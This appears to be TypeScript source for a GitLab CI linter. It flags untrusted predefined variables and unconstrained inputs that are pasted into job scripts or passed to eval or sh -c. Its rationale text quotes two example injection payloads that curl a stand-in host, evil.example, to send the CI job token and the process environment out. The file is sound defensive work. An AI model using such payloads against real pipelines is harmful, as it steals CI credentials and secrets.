import type { RuleDefinition } from '../../../core/rules.js';
import type { AuditFamily, Hit } from './audit.js';
import type { CiJob, CiModel } from './config.js';
import { get, positionInScalar, stringValue } from './located.js';
import { commandAt, isReparsed, isSplitSafe, jobScripts, variableUses } from './scripts.js';

const INJECTION = 'gitlab-ci/script-injection';
const UNQUOTED = 'gitlab-ci/unquoted-untrusted-variable';

/**
 * Predefined variables whose text is chosen by whoever pushes a branch or commit, opens a merge request,
 * creates a tag or release, or sets their profile name (GitLab's predefined variables reference).
 * Slugs (`*_SLUG`), SHAs and IDs are sanitised by GitLab and are not listed.
 *
 * Free text can hold spaces and glob characters, so it is also unsafe unquoted. Git ref names cannot
 * (git-check-ref-format forbids spaces, `*`, `?`, `[`), but they can hold `$( ) ; | &` and backticks,
 * so they are only reported where the shell parses them again.
 */
export const UNTRUSTED_TEXT_VARIABLES = new Set([
  'CI_COMMIT_AUTHOR',
  'CI_COMMIT_DESCRIPTION',
  'CI_COMMIT_MESSAGE',
  'CI_COMMIT_TAG_MESSAGE',
  'CI_COMMIT_TITLE',
  'CI_MERGE_REQUEST_TITLE',
  'CI_MERGE_REQUEST_DESCRIPTION',
  'CI_MERGE_REQUEST_LABELS',
  'CI_MERGE_REQUEST_MILESTONE',
  'CI_RELEASE_DESCRIPTION',
  'CI_PIPELINE_NAME',
  'GITLAB_USER_NAME',
  'CHAT_INPUT',
]);
export const UNTRUSTED_REF_VARIABLES = new Set([
  'CI_COMMIT_BRANCH',
  'CI_COMMIT_REF_NAME',
  'CI_COMMIT_TAG',
  'CI_MERGE_REQUEST_SOURCE_BRANCH_NAME',
  'CI_MERGE_REQUEST_TARGET_BRANCH_NAME',
  'CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME',
  'CI_EXTERNAL_PULL_REQUEST_TARGET_BRANCH_NAME',
]);

const rules: RuleDefinition[] = [
  {
    id: INJECTION,
    check: 'hardening',
    title: 'Untrusted text interpolated into a script',
    severity: 'high',
    description:
      'A script line (`script`, `before_script`, `after_script`, `hooks:pre_get_sources_script`) contains ' +
      '`$[[ inputs.NAME ]]` for a string input without `options:` or `regex:` (high with `| expand_vars`, which ' +
      'also pastes the variables the value names; medium without, where only whoever sets the input writes the ' +
      'script), or passes a user-controlled ' +
      'predefined variable (`CI_COMMIT_MESSAGE`, `CI_COMMIT_TITLE`, `CI_COMMIT_BRANCH`, `CI_COMMIT_REF_NAME`, ' +
      '`CI_MERGE_REQUEST_TITLE`, `CI_MERGE_REQUEST_DESCRIPTION`, `CI_MERGE_REQUEST_SOURCE_BRANCH_NAME`, ' +
      '`CI_COMMIT_TAG_MESSAGE`, `GITLAB_USER_NAME`…) to a command that parses its argument as code again: `eval`, ' +
      '`sh -c`/`bash -c`, `python -c`, `node -e`, `su -c`…, outside single quotes.',
    rationale:
      'GitLab replaces `$[[ inputs.x ]]` in the text of the script before the shell reads it, so an input value ' +
      'like `x"; curl https://evil.example/$CI_JOB_TOKEN; "` becomes shell code. Likewise `eval "echo ' +
      '$CI_COMMIT_MESSAGE"` runs a commit message such as `$(curl -d @/proc/self/environ evil.example)`. Branch ' +
      'names, commit messages and merge request titles are written by whoever pushes or opens the merge request, ' +
      'so the job runs their commands with its token and variables.',
    fix:
      'Pass the text through an environment variable and quote it; never build code from it:\n\n```yaml\n' +
      'spec:\n  inputs:\n    environment:\n      options: [staging, production]   # or regex: ^[a-z-]+$\n---\n' +
      'deploy:\n  variables:\n    TITLE: $CI_MERGE_REQUEST_TITLE\n  script:\n' +
      '    - ./notify --title "$TITLE"           # quoted, never eval or sh -c\n' +
      '    - ./deploy --env "$[[ inputs.environment ]]"\n```',
    references: [
      'https://docs.gitlab.com/ci/inputs/',
      'https://docs.gitlab.com/ci/variables/predefined_variables/',
      'https://securitylab.github.com/resources/github-actions-untrusted-input/',
    ],
  },
  {
    id: UNQUOTED,
    check: 'hardening',
    title: 'User-controlled variable used unquoted',
    severity: 'medium',
    description:
      'A script line uses a user-controlled free-text predefined variable (`CI_COMMIT_MESSAGE`, `CI_COMMIT_TITLE`, ' +
      '`CI_COMMIT_DESCRIPTION`, `CI_COMMIT_TAG_MESSAGE`, `CI_COMMIT_AUTHOR`, `CI_MERGE_REQUEST_TITLE`, ' +
      '`CI_MERGE_REQUEST_DESCRIPTION`, `CI_MERGE_REQUEST_LABELS`, `CI_RELEASE_DESCRIPTION`, `GITLAB_USER_NAME`…) ' +
      'without double quotes, outside `[[ ]]`, `case` and assignments. Branch and tag names are not reported ' +
      'here: git forbids spaces and glob characters in them.',
    rationale:
      'The shell splits an unquoted value into words and expands glob characters in it. A commit message or ' +
      'merge request title chosen by an attacker can then add options to the command (`--upload-pack=…`, `-o /path`), ' +
      'list or match files, or change which arguments a deploy tool sees. Quoting makes the value one literal ' +
      'argument.',
    fix: 'Quote it, and end options before it where the command supports `--`:\n\n```yaml\nscript:\n  - git log -1 -- "$CI_COMMIT_REF_NAME"\n```',
    references: [
      'https://www.shellcheck.net/wiki/SC2086',
      'https://docs.gitlab.com/ci/variables/predefined_variables/',
    ],
  },
];

const INPUT = /\$\[\[\s*inputs\.([A-Za-z0-9_-]+)\s*(?:\|[^\]]*)?\]\]/g;

/** True when the input cannot hold arbitrary text: boolean/number type, `options:`, or `regex:`. */
function inputIsConstrained(model: CiModel, path: string, name: string): boolean {
  const spec = get(get(get(model.headers.get(path), 'spec'), 'inputs'), name);
  const type = stringValue(get(spec, 'type'));
  return (
    type === 'boolean' || type === 'number' || get(spec, 'options') !== undefined || get(spec, 'regex') !== undefined
  );
}

function auditJob(model: CiModel, job: CiJob): Hit[] {
  const hits: Hit[] = [];
  for (const line of jobScripts(job.config)) {
    for (const match of line.text.matchAll(INPUT)) {
      const name = match[1] ?? '';
      if (inputIsConstrained(model, line.scalar.src.path, name)) continue;
      // With `expand_vars`, `$CI_MERGE_REQUEST_TITLE` and the like inside the input value are expanded before
      // the text is pasted: anyone who can open a merge request then writes the script. Without it, only
      // whoever sets the input (the including pipeline, or someone running the pipeline) can.
      const expands = /\|\s*expand_vars\b/.test(match[0]);
      hits.push({
        ruleId: INJECTION,
        ...(expands ? {} : { severity: 'medium' as const }),
        message: `\`${match[0]}\` is pasted into the \`${line.key}\` text before the shell reads it: an input value with quotes or \`$(...)\` runs as code${expands ? ', and `expand_vars` also pastes the CI/CD variables the value names (merge request titles, branch names)' : ''}.`,
        position: positionInScalar(line.scalar, line.text, match.index ?? 0, match[0]),
        owner: line.scalar.owner,
        job: job.name,
        key: `input:${name}:${line.key}:${commandAt(line.text, match.index ?? 0)}`,
        fix: `Constrain \`inputs.${name}\` with \`options:\` or \`regex:\`, or pass it through a variable and use \`"$VAR"\`.`,
      });
    }
    for (const use of variableUses(line.text)) {
      const freeText = UNTRUSTED_TEXT_VARIABLES.has(use.name);
      if ((!freeText && !UNTRUSTED_REF_VARIABLES.has(use.name)) || use.quote === 'single') continue;
      const position = positionInScalar(line.scalar, line.text, use.index, use.token);
      const common = { owner: line.scalar.owner, job: job.name, position };
      if (isReparsed(use.before)) {
        hits.push({
          ruleId: INJECTION,
          ...common,
          message: `\`$${use.name}\` is expanded into code that is parsed again (\`eval\`, \`sh -c\`…): its author can run commands in this job.`,
          key: `reparsed:${use.name}:${line.key}:${commandAt(line.text, use.index)}`,
          fix: `Do not build code from \`$${use.name}\`; pass it as a quoted argument (\`"$${use.name}"\`) to a script instead.`,
        });
      } else if (freeText && use.quote === 'none' && !isSplitSafe(use.before)) {
        hits.push({
          ruleId: UNQUOTED,
          ...common,
          message: `\`$${use.name}\` is used unquoted: its author controls word splitting and glob expansion of this command.`,
          key: `unquoted:${use.name}:${line.key}:${commandAt(line.text, use.index)}`,
          fix: `Write \`"$${use.name}"\`.`,
        });
      }
    }
  }
  return hits;
}

export const scriptInjection: AuditFamily = {
  rules,
  audit: (model) => model.jobs.flatMap((job) => auditJob(model, job)),
};
